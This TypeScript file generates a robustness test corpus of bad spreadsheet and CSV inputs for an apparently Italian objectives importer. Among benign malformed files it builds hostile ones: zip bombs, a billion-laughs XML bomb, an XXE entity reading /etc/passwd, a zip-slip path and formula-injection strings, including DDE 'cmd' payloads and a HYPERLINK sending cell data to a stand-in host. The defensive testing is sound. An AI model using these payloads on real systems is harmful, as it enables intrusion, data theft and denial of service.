/**
 * The robustness corpus: bad inputs as offices (and attackers) produce them, generated on the fly.
 * Each case is one file that `piao` must either refuse with an Italian line naming it, or read with
 * a finding saying what it met, never crashing and never stopping the other files of the dossier.
 *
 * Run it alone to look at the files or try the CLI on them:
 *   node -r @swc-node/register tests/robustness/make-corpus.ts /tmp/corpus
 *   node bin/piao.js batch /tmp/corpus --out /tmp/corpus-out
 */
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { deflateRawSync, constants as zlibConstants } from 'node:zlib';
import { Random } from '../../bench/generate/random';
import { a1 } from '../../importer/engine/grid/address';
import { legacyXls, passwordProtectedXlsx } from '../helpers/cfb';
import { cellXml, deflatedRepeat, rawXlsx, sheetData, workbookParts, zipParts } from '../helpers/raw-xlsx';

export type Cell = string | number | null;

/** A small objectives table (code-only layout) whose weights sum to 100. */
export const OBJECTIVES: Cell[][] = [
  ['Codice', 'Obiettivo', 'Responsabile', 'Peso'],
  ['01', 'Comune digitale', null, null],
  ['01.01', 'Servizi on line', null, null],
  ['01.01.01', 'Sportello digitale', null, null],
  ['01.01.01.01', 'Prenotazioni on line', 'Servizi demografici', 60],
  ['01.01.01.02', 'Pagamenti con pagoPA', 'Servizi demografici', 40],
];

/** The same table with accented titles (for encodings). */
export const ACCENTED: Cell[][] = OBJECTIVES.map((r, i) => (i === 0 ? r : [r[0], `${r[1]} (città, più, perché)`, r[2], r[3]]));

export function objectivesCsv(rows: Cell[][] = OBJECTIVES, eol = '\r\n'): string {
  return rows.map((r) => r.map((v) => (v === null ? '' : String(v))).join(';')).join(eol) + eol;
}

/** The clean table of the good file: other codes (09...), so that its objectives are told apart. */
export const GOOD_OBJECTIVES: Cell[][] = OBJECTIVES.map((r, i) => (i === 0 ? r : [String(r[0]).replace(/^01/, '09'), r[1], r[2], r[3]]));

/** The clean workbook every dossier of the corpus holds beside its bad file. */
export async function goodWorkbook(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Obiettivi 2024');
  for (const r of GOOD_OBJECTIVES) ws.addRow(r);
  return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/** The objectives table as an xlsx sheet body, starting at `top` (0-based) and leaving other rows to the caller. */
function tableRows(rows: Cell[][], top = 0): string {
  return rows.map((r, i) => `<row r="${top + i + 1}">${r.map((v, c) => (v === null ? '' : cellXml(a1(top + i, c), v))).join('')}</row>`).join('');
}

function objectivesSheet(rows: Cell[][] = OBJECTIVES): string {
  return sheetData(rows);
}

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

export interface CorpusCase {
  /** Folder name of the dossier and a short English id. */
  id: string;
  /** What the case is, in Italian (shown by the test names and the README). */
  what: string;
  /** The bad file's name inside the dossier. */
  file: string;
  bytes(): Buffer | Promise<Buffer>;
}

function odsBytes(): Buffer {
  return zipParts([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
    { name: 'content.xml', data: '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>' },
  ]);
}

/** A workbook whose first sheet is fine and whose second sheet part is `second` (raw bytes). */
function twoSheets(second: string | Buffer): Buffer {
  return rawXlsx({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }, { name: 'Rovinato', body: '', raw: second }] });
}

/** A million rows that hold nothing but a format, under a small table: what "select all, format" leaves. */
function emptyFormattedRows(count: number): Buffer {
  const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${NS}"><sheetData>${tableRows(OBJECTIVES)}`;
  const rows: string[] = [];
  for (let r = OBJECTIVES.length + 1; r <= count; r++) rows.push(`<row r="${r}" s="1" customFormat="1"><c r="A${r}" s="1"/><c r="B${r}" s="1"/></row>`);
  const xml = `${head}${rows.join('')}</sheetData></worksheet>`;
  return rawXlsx({ sheets: [{ name: 'Obiettivi', body: '', raw: xml }], numFmts: ['0.00'] });
}

function wideSheet(columns: number): Buffer {
  const wide = Array.from({ length: columns }, (_, c) => cellXml(a1(OBJECTIVES.length + 2, c), `Colonna ${c + 1}`)).join('');
  const body = `<sheetData>${tableRows(OBJECTIVES)}<row r="${OBJECTIVES.length + 3}">${wide}</row></sheetData>`;
  return rawXlsx({ sheets: [{ name: 'Obiettivi', body }] });
}

function mergedEverywhere(): Buffer {
  const whole = `<sheetData>${tableRows([['Titolo su tutto il foglio'], ['sotto'], ['sotto ancora']])}</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>`;
  const rows = [['Obiettivi di performance 2024'], ...OBJECTIVES];
  const merges = ['<mergeCell ref="A1:XFD1"/>', ...OBJECTIVES.map((_, i) => `<mergeCell ref="F${i + 2}:XFD${i + 2}"/>`)];
  const table = `<sheetData>${tableRows(rows)}</sheetData><mergeCells count="${merges.length}">${merges.join('')}</mergeCells>`;
  return rawXlsx({ sheets: [{ name: 'Tutto unito', body: whole }, { name: 'Obiettivi', body: table }] });
}

async function formulaErrors(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Obiettivi');
  const errors = ['#DIV/0!', '#N/A', '#REF!', '#VALUE!', '#NAME?', '#NUM!', '#NULL!'];
  ws.addRow(OBJECTIVES[0]);
  OBJECTIVES.slice(1).forEach((r, i) => {
    const e = errors[i % errors.length];
    ws.addRow([r[0], r[1], { formula: `ERR${i}()`, result: { error: e } }, { formula: `1/0+${i}`, result: { error: errors[(i + 1) % errors.length] } }]);
  });
  ws.addRow([{ formula: 'A1/0', result: { error: '#DIV/0!' } }, { formula: 'B1+1', result: { error: '#VALUE!' } }, { error: '#N/A' }, { error: '#REF!' }]);
  return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

async function workbookOf(rows: Cell[][], name = 'Obiettivi', before: Cell[][] = []): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(name);
  for (const r of [...before, ...rows]) ws.addRow(r);
  return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

export const INJECTIONS = ['=HYPERLINK("http://esempio.invalid/?"&A1,"Clicca qui")', "+cmd|' /C calc'!A0", '@SOMMA(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '=1+1'];
export const PROTO_LABELS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'];

export const CORPUS: CorpusCase[] = [
  // --- refused: one Italian line naming the file ---
  {
    id: 'corrupt-zip',
    what: 'archivio zip danneggiato (indice centrale sovrascritto)',
    file: 'danneggiato.xlsx',
    async bytes() {
      const b = await goodWorkbook();
      const cd = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
      b.fill(0x41, cd, cd + 30);
      return b;
    },
  },
  { id: 'truncated-xlsx', what: 'xlsx troncato (download interrotto)', file: 'troncato.xlsx', bytes: async () => (await goodWorkbook()).subarray(0, 2500) },
  { id: 'empty-xlsx', what: 'file .xlsx di 0 byte', file: 'vuoto.xlsx', bytes: () => Buffer.alloc(0) },
  { id: 'empty-csv', what: 'file .csv di 0 byte', file: 'vuoto.csv', bytes: () => Buffer.alloc(0) },
  { id: 'blank-csv', what: 'CSV di sole righe vuote', file: 'righe-vuote.csv', bytes: () => Buffer.from('\r\n   \r\n\t\r\n') },
  { id: 'text-renamed-xlsx', what: 'testo rinominato .xlsx', file: 'testo.xlsx', bytes: () => Buffer.from(objectivesCsv()) },
  { id: 'password-xlsx', what: 'xlsx protetto da password', file: 'protetto.xlsx', bytes: () => passwordProtectedXlsx() },
  { id: 'legacy-xls', what: 'file Excel 97-2003 (.xls)', file: 'vecchio.xls', bytes: () => legacyXls() },
  { id: 'xls-renamed-xlsx', what: '.xls rinominato .xlsx', file: 'vecchio-rinominato.xlsx', bytes: () => legacyXls() },
  { id: 'ods', what: 'foglio OpenDocument (.ods)', file: 'calc.ods', bytes: () => odsBytes() },
  { id: 'ods-renamed-xlsx', what: '.ods rinominato .xlsx', file: 'calc-rinominato.xlsx', bytes: () => odsBytes() },
  { id: 'xlsx-renamed-csv', what: 'cartella di lavoro rinominata .csv', file: 'export.csv', bytes: () => goodWorkbook() },
  {
    id: 'binary-csv',
    what: 'file binario con estensione .csv',
    file: 'binario.csv',
    bytes() {
      const rnd = new Random(3);
      return Buffer.from(Array.from({ length: 4096 }, () => rnd.int(0, 255)));
    },
  },
  {
    id: 'zip-bomb-declared',
    what: 'zip bomb: pochi MB che si espandono a 3 GB',
    file: 'bomba.xlsx',
    bytes() {
      const parts = workbookParts({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }] });
      parts.push({ name: 'xl/media/image1.png', data: Buffer.alloc(0), deflated: deflatedRepeat(0, 3 * 1024 ** 3, 4 * 1024 * 1024), declaredSize: 3 * 1024 ** 3 });
      return zipParts(parts);
    },
  },
  {
    id: 'zip-bomb-lying',
    what: 'zip bomb che dichiara 4 KB e si espande a 64 MB',
    file: 'bomba-bugiarda.xlsx',
    bytes() {
      const start = deflateRawSync(Buffer.from(`<?xml version="1.0"?><worksheet xmlns="${NS}"><sheetData>`), { finishFlush: zlibConstants.Z_SYNC_FLUSH });
      const parts = workbookParts({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }] });
      const i = parts.findIndex((p) => p.name === 'xl/worksheets/sheet1.xml');
      parts[i] = { name: parts[i].name, data: Buffer.alloc(0), deflated: Buffer.concat([start, deflatedRepeat(0x20, 64 * 1024 * 1024)]), declaredSize: 4096 };
      return zipParts(parts);
    },
  },
  {
    id: 'xml-entity-bomb',
    what: 'bomba di entità XML (billion laughs) nei testi condivisi',
    file: 'risate.xlsx',
    bytes() {
      const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
      const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]><sst xmlns="${NS}"><si><t>&lol9;</t></si></sst>`;
      return rawXlsx({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }], shared: ['x'], override: [{ name: 'xl/sharedStrings.xml', data: xml }] });
    },
  },
  {
    id: 'xxe',
    what: 'entità esterna XML (XXE) che punta a /etc/passwd',
    file: 'xxe.xlsx',
    bytes() {
      const xml = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>`;
      return rawXlsx({ sheets: [{ name: 'Obiettivi', body: '', raw: xml }] });
    },
  },
  {
    id: 'zip-slip',
    what: 'archivio con percorsi che escono dalla cartella (../../)',
    file: 'percorsi.xlsx',
    bytes() {
      const parts = workbookParts({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }] });
      parts.push({ name: '../../../tmp/piao-evil.sh', data: 'echo pwned' });
      return zipParts(parts);
    },
  },
  { id: 'no-workbook', what: 'zip valido senza cartella di lavoro', file: 'non-excel.xlsx', bytes: () => zipParts([{ name: 'readme.xml', data: '<?xml version="1.0"?><a/>' }]) },
  {
    id: 'encrypted-entry',
    what: 'archivio con parti cifrate (zip con password)',
    file: 'zip-cifrato.xlsx',
    bytes() {
      const parts = workbookParts({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }] });
      for (const p of parts) if (p.name.startsWith('xl/')) p.flags = 1;
      return zipParts(parts);
    },
  },
  {
    id: 'unsupported-compression',
    what: 'archivio compresso con bzip2 (metodo 12)',
    file: 'bzip2.xlsx',
    bytes() {
      const parts = workbookParts({ sheets: [{ name: 'Obiettivi', body: objectivesSheet() }] });
      for (const p of parts) p.method = 12;
      return zipParts(parts);
    },
  },
  { id: 'too-wide-csv', what: 'CSV con 20.000 colonne (separatore sbagliato)', file: 'larghissimo.csv', bytes: () => Buffer.from(`${Array.from({ length: 20_000 }, (_, i) => i).join(';')}\r\n`) },

  // --- read, with a finding saying what was met ---
  { id: 'zero-byte-sheet', what: 'foglio di 0 byte accanto a un foglio buono', file: 'foglio-vuoto.xlsx', bytes: () => twoSheets(Buffer.alloc(0)) },
  { id: 'broken-sheet-xml', what: 'foglio con XML troncato accanto a un foglio buono', file: 'foglio-rotto.xlsx', bytes: () => twoSheets(`<?xml version="1.0"?><worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Codice</t></is></c><c r="B1"`) },
  {
    id: 'mixed-encodings-csv',
    what: 'CSV con righe UTF-8 e righe Windows-1252',
    file: 'misto.csv',
    bytes: () => Buffer.concat([Buffer.from(objectivesCsv(ACCENTED.slice(0, 3)), 'utf8'), iconv.encode(objectivesCsv(ACCENTED.slice(3)), 'windows-1252')]),
  },
  {
    id: 'unclosed-quote-csv',
    what: 'CSV con virgolette aperte e mai chiuse',
    file: 'virgolette.csv',
    bytes: () => Buffer.from(objectivesCsv([...OBJECTIVES.slice(0, 2), ['01.01', '"Servizi on line', null, null], ...OBJECTIVES.slice(3)])),
  },
  {
    id: 'beyond-excel-limits',
    what: 'celle oltre XFD1048576',
    file: 'oltre-i-limiti.xlsx',
    bytes() {
      const body = `<sheetData>${tableRows(OBJECTIVES)}<row r="${OBJECTIVES.length + 1}">${cellXml('XFE7', 'oltre la colonna XFD')}</row><row r="1048577">${cellXml('A1048577', 'oltre la riga massima')}</row></sheetData>`;
      return rawXlsx({ sheets: [{ name: 'Obiettivi', body }] });
    },
  },
  {
    id: 'missing-shared-string',
    what: 'celle che rimandano a testi condivisi inesistenti',
    file: 'testi-mancanti.xlsx',
    bytes() {
      const body = `<sheetData>${tableRows(OBJECTIVES)}<row r="8"><c r="A8" t="s"><v>0</v></c><c r="B8" t="s"><v>999</v></c></row></sheetData>`;
      return rawXlsx({ sheets: [{ name: 'Obiettivi', body }], shared: ['Note'] });
    },
  },

  // --- read as they should be ---
  { id: 'utf16-csv', what: 'CSV in UTF-16 senza BOM', file: 'utf16.csv', bytes: () => iconv.encode(objectivesCsv(), 'utf-16le') },
  { id: 'cr-line-endings-csv', what: 'CSV con a capo solo CR (vecchio Mac)', file: 'mac.csv', bytes: () => Buffer.from(objectivesCsv(OBJECTIVES, '\r')) },
  { id: 'ten-thousand-columns', what: 'foglio con 10.000 colonne', file: 'diecimila-colonne.xlsx', bytes: () => wideSheet(10_000) },
  { id: 'million-empty-formatted-rows', what: 'foglio con 1.000.000 di righe vuote formattate', file: 'righe-formattate.xlsx', bytes: () => emptyFormattedRows(1_000_000) },
  { id: 'merged-whole-sheet', what: 'unioni di celle su tutto il foglio', file: 'unioni.xlsx', bytes: () => mergedEverywhere() },
  { id: 'formula-errors', what: 'errori di formula in ogni cella', file: 'errori.xlsx', bytes: () => formulaErrors() },
  {
    id: 'dates-as-text',
    what: 'date scritte come testo',
    file: 'date-testo.xlsx',
    bytes: () => workbookOf([[...OBJECTIVES[0], 'Target'], ...OBJECTIVES.slice(1).map((r, i) => [...r, `${10 + i}/12/2024`])], 'Obiettivi', [['Obiettivi di performance al 31/12/2024'], []]),
  },
  {
    id: 'numbers-as-text',
    what: 'numeri scritti come testo con spazi e spazi non separabili',
    file: 'numeri-testo.xlsx',
    bytes: () => workbookOf([...OBJECTIVES.slice(0, 4), [...OBJECTIVES[4].slice(0, 3), ' 60\u00a0%'], [...OBJECTIVES[5].slice(0, 3), '4\u00a00 ']]),
  },
  { id: 'header-only', what: 'solo la riga di intestazione', file: 'solo-intestazione.xlsx', bytes: () => workbookOf([OBJECTIVES[0]]) },
  { id: 'header-only-csv', what: 'CSV con la sola intestazione', file: 'solo-intestazione.csv', bytes: () => Buffer.from(objectivesCsv([OBJECTIVES[0]])) },
  {
    id: 'duplicated-headers',
    what: 'intestazioni ripetute (due colonne «Peso»)',
    file: 'intestazioni-doppie.xlsx',
    bytes: () => workbookOf([[...OBJECTIVES[0], 'Peso'], ...OBJECTIVES.slice(1).map((r) => [...r, 999])]),
  },
  {
    id: 'proto-headers',
    what: 'intestazioni e valori «__proto__», «constructor», «prototype»',
    file: 'proto.xlsx',
    async bytes() {
      const wb = new ExcelJS.Workbook();
      const table = wb.addWorksheet('Obiettivi');
      for (const r of OBJECTIVES) table.addRow([...r, ...PROTO_LABELS.slice(0, 3)]);
      const labels = wb.addWorksheet('__proto__');
      labels.addRow(PROTO_LABELS);
      labels.addRow(PROTO_LABELS);
      return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
    },
  },
  {
    id: 'proto-headers-csv',
    what: 'CSV con intestazioni «__proto__» e «constructor»',
    file: 'proto.csv',
    bytes: () => Buffer.from(objectivesCsv(OBJECTIVES.map((r, i) => [...r, ...(i === 0 ? PROTO_LABELS.slice(0, 3) : PROTO_LABELS.slice(3, 6))]))),
  },
  {
    id: 'formula-injection',
    what: 'testi che sembrano formule (formula injection)',
    file: 'iniezione.xlsx',
    bytes: () => workbookOf([OBJECTIVES[0], ...INJECTIONS.map((t, i) => [`02.01.01.0${i + 1}`, t, t, 20])]),
  },
  {
    id: 'huge-cell',
    what: 'una cella con 1 MB di testo',
    file: 'cella-enorme.xlsx',
    bytes: () => workbookOf([...OBJECTIVES.slice(0, 4), [OBJECTIVES[4][0], 'Prenotazioni '.repeat(80_000), OBJECTIVES[4][2], 60], OBJECTIVES[5]]),
  },
  {
    id: 'very-hidden-sheet',
    what: 'foglio nascosto («veryHidden»)',
    file: 'nascosto.xlsx',
    bytes: () => rawXlsx({ sheets: [{ name: 'Copertina', body: sheetData([['Comune di Esempio']]) }, { name: 'Obiettivi', body: objectivesSheet(), state: 'veryHidden' }] }),
  },
  { id: 'excel-lock-file', what: 'file di blocco di Excel (~$) accanto al file aperto', file: '~$obiettivi.xlsx', bytes: () => Buffer.from([0x0b, 0x55, 0x66, 0x66, 0x69, 0x63, 0x69, 0x6f]) },
];

export const GOOD_FILE = 'buono.xlsx';

/** Writes each case as a dossier `<dir>/<id>/` holding the bad file and a clean workbook. */
export async function writeCorpus(dir: string, cases: readonly CorpusCase[] = CORPUS): Promise<void> {
  const good = await goodWorkbook();
  for (const c of cases) {
    const path = join(dir, c.id, c.file);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, await c.bytes());
    writeFileSync(join(dir, c.id, GOOD_FILE), good);
  }
}

if (require.main === module) {
  const dir = process.argv[2];
  if (!dir) {
    process.stderr.write('uso: make-corpus.ts <cartella>\n');
    process.exitCode = 2;
  } else {
    writeCorpus(dir).then(() => process.stdout.write(`${CORPUS.length} casi scritti in ${dir}\n`));
  }
}
